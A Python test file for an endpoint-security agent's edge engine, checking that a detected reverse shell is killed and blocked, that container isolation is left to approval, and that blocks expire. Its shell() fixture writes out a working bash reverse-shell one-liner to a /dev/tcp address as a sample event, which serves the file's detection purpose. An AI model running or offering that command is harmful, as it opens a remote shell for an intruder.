"""The agent's edge engine, a plain object: the hive's rules and playbooks on
the agent's own events, commands for its executor at once, and the Edge
events that tell the hive."""

import msgspec
import pytest

import fleet
import wire
from agent._edge import Edge, EdgeError, alert_id
from hive.playbook import DEFAULT_PLAYBOOKS
from hive.sigma import BUILTIN_RULES

RULE = (BUILTIN_RULES / "linux" / "reverse_shell.yml").read_text()
PLAYBOOK = (DEFAULT_PLAYBOOKS / "reverse_shell.yml").read_text()


class Clock:
    now = 1_000.0

    def __call__(self):
        return self.now


def shell(pid=4242, t=5_000):
    return wire.Exec(time=t, pid=pid, filename="/bin/bash", exe="/usr/bin/bash",
                     argv=["bash", "-c", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"],
                     cmdline="bash -c bash -i >& /dev/tcp/10.9.8.7/4444 0>&1")


@pytest.fixture
def edge(tmp_path):
    clock = Clock()
    e = Edge("web-1", clock=clock)
    e.clock = clock
    bundle = fleet.Bundle(name="edge", version=3, rules={"reverse_shell.yml": RULE},
                          playbooks={"reverse_shell.yml": PLAYBOOK})
    assert e.install(bundle, tmp_path) == "1 edge rules, 1 edge playbooks"
    return e


def test_a_reverse_shell_is_answered_at_once_and_told_to_the_hive(edge):
    d = edge.process([wire.Exec(pid=1, filename="/bin/ls", argv=["ls"]), shell()])
    assert [(c.action, getattr(c, "pid", None), getattr(c, "address", None)) for c in d.commands] == [
        ("kill_process", 4242, None), ("block_connect", None, "10.9.8.7")]
    assert all(c.id.startswith("edge-") for c in d.commands)
    [e] = d.events
    assert (e.pid, e.time, e.answered, e.bundle) == (4242, 5_000, False, 3)
    assert e.alert == alert_id("web-1", e.rule_id, shell()) and e.playbooks == ["reverse-shell"]
    assert [a.action for a in e.actions] == ["kill_process", "block_connect"]
    assert msgspec.msgpack.decode(msgspec.msgpack.encode(e), type=wire.AnyEvent) == e  # within the wire's bounds


def test_the_approval_step_is_left_to_the_hive(edge):
    ev = shell()
    ev.container = "c" * 64
    d = edge.process([ev])
    assert "isolate_container" not in [c.action for c in d.commands]
    assert "isolate_container" not in [a.action for a in d.events[0].actions]


def test_a_block_with_a_ttl_is_lifted_by_the_edge_after_it(edge):
    d = edge.process([shell()])
    kill, block = d.commands
    assert edge.answered(wire.CommandResult(command=kill.id, ok=True, detail="killed 1")).actions[0].ok
    report = edge.answered(wire.CommandResult(command=block.id, ok=True, detail="blocked", data={"rule": "resp-x"}))
    assert (report.answered, report.alert, report.actions[0].action) == (True, d.events[0].alert, "block_connect")
    assert edge.tick() == []
    edge.clock.now += 601
    [unblock] = edge.tick()
    assert unblock.action == "unblock"


def test_no_bundle_no_edge_and_a_broken_one_keeps_the_rules_in_force(edge, tmp_path):
    with pytest.raises(EdgeError, match="a playbook does not load"):
        edge.install(fleet.Bundle(name="edge", version=4, playbooks={"x.yml": "id: [\n"}), tmp_path)
    with pytest.raises(EdgeError, match="rules do not load"):
        edge.install(fleet.Bundle(name="edge", version=4, rules={"x.yml": "title: x\n"}), tmp_path)
    assert edge.version == 3 and edge.process([shell()]).commands
    assert edge.install(None, tmp_path) == "no edge rules"
    assert not edge.active and edge.process([shell(pid=7)]).events == []


def test_the_sensor_is_told_which_kinds_the_edge_rules_read(tmp_path):
    """The fast path: the kinds of the installed rules' categories go to the
    sensor (through the agent's SensorSlot) each time the rules change, and
    a sensor that (re)attaches later gets them too."""
    from agent.response import SensorSlot

    class Sensor:
        policy = None
        kinds: frozenset = frozenset()

        def wake_at_once(self, kinds):
            self.kinds = kinds

    slot = SensorSlot()
    e = Edge("web-1", wake=slot.wake_at_once)
    files = (BUILTIN_RULES / "linux" / "authorized_keys_modified.yml").read_text()
    e.install(fleet.Bundle(name="edge", version=1, rules={"a.yml": RULE, "b.yml": files}), tmp_path)
    first = Sensor()
    slot.attach(first)
    assert first.kinds == {"exec", "open", "file"} == e.kinds()
    e.install(fleet.Bundle(name="edge", version=2, rules={"a.yml": RULE}), tmp_path)
    assert first.kinds == {"exec"}
    again = Sensor()
    slot.attach(again)
    assert again.kinds == {"exec"}
    e.install(None, tmp_path)
    assert again.kinds == frozenset()  # the sensor attached now
